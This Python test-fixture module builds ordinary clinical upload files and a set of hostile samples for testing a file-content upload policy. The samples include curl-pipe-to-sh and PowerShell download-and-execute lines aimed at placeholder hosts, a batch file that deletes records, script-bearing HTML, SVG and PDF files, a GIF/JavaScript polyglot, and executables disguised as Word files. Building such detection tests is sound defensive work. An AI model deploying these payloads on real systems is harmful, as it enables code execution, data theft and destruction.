"""Files clinicians really send, and the hostile files a staff member could try instead.

Made with the libraries real tools use (Pillow, python-docx, openpyxl, the stdlib's wave
and zipfile), so the "legitimate" side is what a phone or an office suite produces.
Shared by the pure tests of policy/file_content.py and the uploads through real Synapse.
"""

from __future__ import annotations

import io
import struct
import wave
import zipfile
import zlib

import docx
import openpyxl
from PIL import Image

MZ_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 256


def photo_jpeg() -> bytes:
    """A camera-style JPEG photo."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 90)).save(out, "JPEG", quality=85)
    return out.getvalue()


def photo_png() -> bytes:
    """A screenshot-style PNG."""
    out = io.BytesIO()
    Image.new("RGBA", (32, 32), (10, 200, 30, 255)).save(out, "PNG")
    return out.getvalue()


PAGE_OBJECTS = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (Obs stable) Tj ET\n\nendstream",
)


def pdf(objects: tuple[bytes, ...] = PAGE_OBJECTS) -> bytes:
    """A small valid one-page PDF (one line of text), or one made of `objects`."""
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(body)
    count = len(objects) + 1
    body += b"xref\n0 %d\n0000000000 65535 f \n" % count + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return body + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, xref)


def pdf_with(catalog_extra: bytes, *more: bytes) -> bytes:
    """The one-page PDF whose catalog carries `catalog_extra`, with `more` objects after it."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return pdf((catalog, *PAGE_OBJECTS[1:], *more))


def object_stream(objects: bytes) -> bytes:
    """A compressed object stream (/ObjStm) holding `objects` (object 5)."""
    packed = zlib.compress(b"5 0 " + objects)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk with its CRC."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_chunk(kind: bytes, body: bytes) -> bytes:
    """The screenshot PNG with one more chunk just before IEND."""
    data = photo_png()
    end = data.rindex(b"IEND") - 4
    return data[:end] + png_chunk(kind, body) + data[end:]


def photo_gif() -> bytes:
    """A GIF as Pillow writes it."""
    out = io.BytesIO()
    Image.new("P", (16, 16), 3).save(out, "GIF")
    return out.getvalue()


def gif_js_polyglot() -> bytes:
    """A GIF that is also JavaScript: its width bytes open a /* comment, a comment block
    closes it and runs the script (`<script src=...gif>` would execute it)."""
    screen = b"/*" + struct.pack("<H", 16) + b"\x00\x00\x00"
    image = b"\x2c" + struct.pack("<4H", 0, 0, 1, 1) + b"\x00" + b"\x02\x02\x44\x01\x00"
    script = b"*/=1;fetch('/steal');/*"
    comment = b"\x21\xfe" + bytes([len(script)]) + script + b"\x00"
    return b"GIF89a" + screen + image + comment + b"\x3b"


def jpeg_mpf() -> bytes:
    """A camera JPEG with a second picture after it (Multi-Picture Format: preview, depth)."""
    out = io.BytesIO()
    Image.new("RGB", (8, 6), (90, 90, 90)).save(out, "JPEG")
    return photo_jpeg() + out.getvalue()


def word_docx() -> bytes:
    """A Word document as python-docx writes it."""
    document = docx.Document()
    document.add_heading("Discharge summary", level=1)
    document.add_paragraph("Observations stable; follow-up in two weeks.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel_xlsx() -> bytes:
    """An Excel workbook as openpyxl writes it."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["bed", "patient", "obs"])
    sheet.append([4, "J. Doe", "stable"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def audio_wav() -> bytes:
    """A short voice note (WAV)."""
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\x00\x01" * 800)
    return out.getvalue()


def video_mp4() -> bytes:
    """The start of an MP4 as phones record it (ftyp box, then media data)."""
    ftyp = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
    return ftyp + b"\x00\x00\x00\x10mdat" + b"\x11" * 8


def zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def exe_dressed_as_docx() -> bytes:
    """A zip with the Office parts a .docx has, plus a Windows program."""
    with zipfile.ZipFile(io.BytesIO(word_docx())) as real:
        entries = {name: real.read(name) for name in real.namelist()}
    entries["word/invoice.pdf.exe"] = MZ_EXE
    return zipped(entries)


def docm_with_macros() -> bytes:
    """A Word file carrying a VBA project (macros), as a .docm does."""
    with zipfile.ZipFile(io.BytesIO(word_docx())) as real:
        entries = {name: real.read(name) for name in real.namelist()}
    entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 120
    return zipped(entries)


PLAIN_TEXT = b"Handover: bed 4 stable, bed 7 needs obs at 14:00.\n"
CSV_UTF8 = "bed,patient,obs\n4,Zoë Brandt,stable\n".encode()
CSV_CP1252 = "bed;patient;obs\r\n4;Zoë Brandt;stable\r\n".encode("cp1252")

HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
XHTML_NAMESPACED = (
    b'<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:body>'
    b"<x:script>fetch('/steal')</x:script></x:body></x:html>"
)
XHTML_DEFAULT_NAMESPACE = (
    b'<?xml version="1.0"?><note xmlns="http://www.w3.org/1999/xhtml"><p>open me</p></note>'
)
SVG_SCRIPT = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10"/></svg>'
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
POWERSHELL = b"$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://example.invalid/a.ps1')\n"
BATCH = b"@echo off\r\ndel /q C:\\records\\*\r\n"


def hostile() -> dict[str, bytes]:
    """Every active-content case of docs/admin/file-rules.md, by name."""
    text_then_zip = b"notes " * 1500 + zipped({"run.exe": MZ_EXE})
    assert text_then_zip.index(b"PK\x03\x04") > 8192
    return {
        "html-named-png": HTML,
        "html-as-text-html": b"<html><head><title>x</title></head><body>hello</body></html>",
        "svg-with-script": SVG_SCRIPT,
        "svg-plain": SVG_PLAIN,
        "shell-script": SHELL,
        "powershell-script": POWERSHELL,
        "batch-script": BATCH,
        "windows-exe": MZ_EXE,
        "linux-elf": ELF,
        "zip-exe-dressed-as-docx": exe_dressed_as_docx(),
        "docm-macros": docm_with_macros(),
        "png-with-zip-appended": photo_png() + zipped({"a.html": HTML}),
        "pdf-with-zip-appended": pdf() + zipped({"a.exe": MZ_EXE}),
        "text-with-zip-after-8k": text_then_zip,
        "zip-holding-html": zipped({"readme.txt": b"open me", "page.htm": HTML}),
        "tar-gz": b"\x1f\x8b\x08\x00" + b"\x00" * 64,
        "xhtml-namespaced": XHTML_NAMESPACED,
        "xhtml-default-namespace": XHTML_DEFAULT_NAMESPACE,
        "png-html-in-text-chunk": png_with_chunk(b"tEXt", b"Comment\x00" + HTML),
        "png-html-in-compressed-text-chunk": png_with_chunk(
            b"zTXt", b"Comment\x00\x00" + zlib.compress(HTML)
        ),
        "png-html-in-private-chunk": png_with_chunk(b"htMl", HTML),
        "png-html-after-a-chunk-claiming-too-much": photo_png()[:33]
        + struct.pack(">I", 2**31)
        + b"teXt"
        + HTML,
        "gif-js-polyglot": gif_js_polyglot(),
        "gif-with-html-after-trailer": photo_gif() + HTML,
        "jpeg-with-trailing-data": photo_jpeg() + b"\x00" * 4 + HTML,
        "jpeg-with-html-in-comment": photo_jpeg()[:2]
        + b"\xff\xfe"
        + struct.pack(">H", len(HTML) + 2)
        + HTML
        + photo_jpeg()[2:],
        "jpeg-with-a-fake-picture-after-it": photo_jpeg() + b"\xff\xd8\xff\x01" + HTML,
        "pdf-with-javascript": pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf-with-escaped-javascript-name": pdf_with(
            b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
        ),
        "pdf-with-launch-action": pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf-with-javascript-in-object-stream": pdf_with(
            b"/OpenAction 5 0 R", object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
        ),
        "pdf-with-html-tail": pdf() + HTML,
        "pdf-with-html-inside": pdf_with(b"/PageMode /UseNone %" + HTML),
    }


def legitimate() -> dict[str, bytes]:
    """What clinicians really send, by name."""
    return {
        "photo-jpeg": photo_jpeg(),
        "photo-png": photo_png(),
        "pdf": pdf(),
        "word-docx": word_docx(),
        "excel-xlsx": excel_xlsx(),
        "audio-wav": audio_wav(),
        "video-mp4": video_mp4(),
        "plain-text": PLAIN_TEXT,
        "csv-utf8": CSV_UTF8,
        "csv-windows-1252": CSV_CP1252,
        "photo-gif": photo_gif(),
        "photo-jpeg-multi-picture": jpeg_mpf(),
        "photo-png-with-text": png_with_chunk(b"tEXt", b"Software\x00Carebridge scanner 2.1"),
        "pdf-with-compressed-page": pdf_with(b"", object_stream(b"<< /Type /Font /Subtype /Type1 >>")),
        "pdf-with-trailing-newlines": pdf() + b"\r\n\r\n",
        "xml-without-markup": b'<?xml version="1.0"?><observation><bed>4</bed></observation>\n',
    }
